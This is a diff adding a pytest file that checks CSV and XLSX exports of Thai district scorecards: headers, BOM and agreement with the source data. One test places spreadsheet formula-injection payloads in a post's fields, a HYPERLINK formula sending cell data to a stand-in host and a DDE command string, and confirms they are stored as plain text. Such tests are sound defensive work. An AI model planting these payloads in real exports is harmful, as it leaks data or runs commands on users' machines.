@@ -1,0 +1,89 @@
+"""CSV and XLSX exports: Thai headers, BOM, and values that agree with the scorecards dict."""
+
+from __future__ import annotations
+
+import copy
+
+import pandas as pd
+import pytest
+
+from auditor.export import SHEETS, write_exports
+from sample_scorecards import sample_scorecards
+
+
+@pytest.fixture(scope="module")
+def scorecards():
+    return sample_scorecards()
+
+
+@pytest.fixture(scope="module")
+def exported(scorecards, tmp_path_factory):
+    return write_exports(scorecards, tmp_path_factory.mktemp("exports"))
+
+
+def test_writes_csv_and_xlsx(exported):
+    assert [p.name for p in exported] == ["scorecards.csv", "scorecards.xlsx"]
+
+
+def test_csv_has_bom_and_one_row_per_district(exported, scorecards):
+    raw = exported[0].read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    frame = pd.read_csv(exported[0], encoding="utf-8-sig")
+    assert len(frame) == len(scorecards["districts"])
+    assert list(frame.columns[:5]) == ["เดือน", "รหัสอำเภอ", "อำเภอ", "ผลการตรวจ", "รหัสผล"]
+    assert "โพสต์ประชาสัมพันธ์ที่มีแฮชแท็กครบ: ทำได้" in frame.columns
+    assert frame.loc[frame["รหัสอำเภอ"] == "warin-chamrap", "อำเภอ"].item() == "วารินชำราบ"
+
+
+def test_xlsx_agrees_with_scorecards(exported, scorecards):
+    sheets = pd.read_excel(exported[1], sheet_name=None)
+    assert list(sheets) == list(SHEETS)
+    table = sheets["สรุปรายอำเภอ"].set_index("รหัสอำเภอ")
+    for d in scorecards["districts"]:
+        row = table.loc[d["district"]]
+        assert row["รหัสผล"] == d["verdict"]
+        assert row["อำเภอ"] == d["name"]
+        for rule in d["rules"]:
+            title = rule["title_th"]
+            assert row[f"{title}: ทำได้"] == rule["observed"], (d["district"], rule["rule"])
+            assert row[f"{title}: เกณฑ์"] == rule["required"]
+            assert row[f"{title}: ผล"] == {"pass": "ผ่าน", "fail": "ไม่ผ่าน", "unknown": "ตรวจไม่ได้"}[rule["verdict"]]
+        assert row["โพสต์ทั้งหมด"] == len(d["posts"])
+        assert row["เก็บข้อมูลไม่สำเร็จ (ช่องทาง)"] == len(d["errors"])
+    posts = sheets["โพสต์"]
+    assert len(posts) == sum(len(d["posts"]) for d in scorecards["districts"])
+    errors = sheets["ข้อผิดพลาด"]
+    assert sorted(errors["รหัสอำเภอ"]) == sorted(d["district"] for d in scorecards["districts"] for _ in d["errors"])
+    assert "สิทธิ์เข้าถึงข้อมูลหมดอายุ" in errors["สาเหตุ"].str.cat()
+    assert len(sheets["ระบุอำเภอไม่ได้"]) == len(scorecards["unattributed"])
+
+
+def test_formula_text_stays_text(scorecards, tmp_path):
+    from openpyxl import load_workbook
+
+    sc = copy.deepcopy(scorecards)
+    post = sc["districts"][0]["posts"][0]
+    post["excerpt"] = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
+    post["counted"] = False
+    post["notes"] = ["+cmd|' /C calc'!A0"]
+    write_exports(sc, tmp_path)
+    sheet = load_workbook(tmp_path / "scorecards.xlsx")["โพสต์"]
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = [c.value for c in cells]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")" in values
+    assert "'+cmd|' /C calc'!A0" in values
+
+
+def test_minimal_contract_only(tmp_path):
+    """Only the contract's required fields: exports still work."""
+    sc = {
+        "schema": "auditor.scorecards/1", "month": "2025-02", "timezone": "Asia/Bangkok",
+        "ruleset": {"id": "x"}, "generated_at": "2025-03-01T00:00:00Z",
+        "districts": [{"district": "na-tan", "name": "นาตาล", "verdict": "fail",
+                       "rules": [{"rule": "activity-count", "verdict": "fail"}], "posts": [], "errors": []}],
+    }
+    csv_path, xlsx_path = write_exports(sc, tmp_path)
+    frame = pd.read_excel(xlsx_path, sheet_name="สรุปรายอำเภอ")
+    assert frame["รหัสผล"].tolist() == ["fail"]
+    assert pd.read_excel(xlsx_path, sheet_name="โพสต์").empty
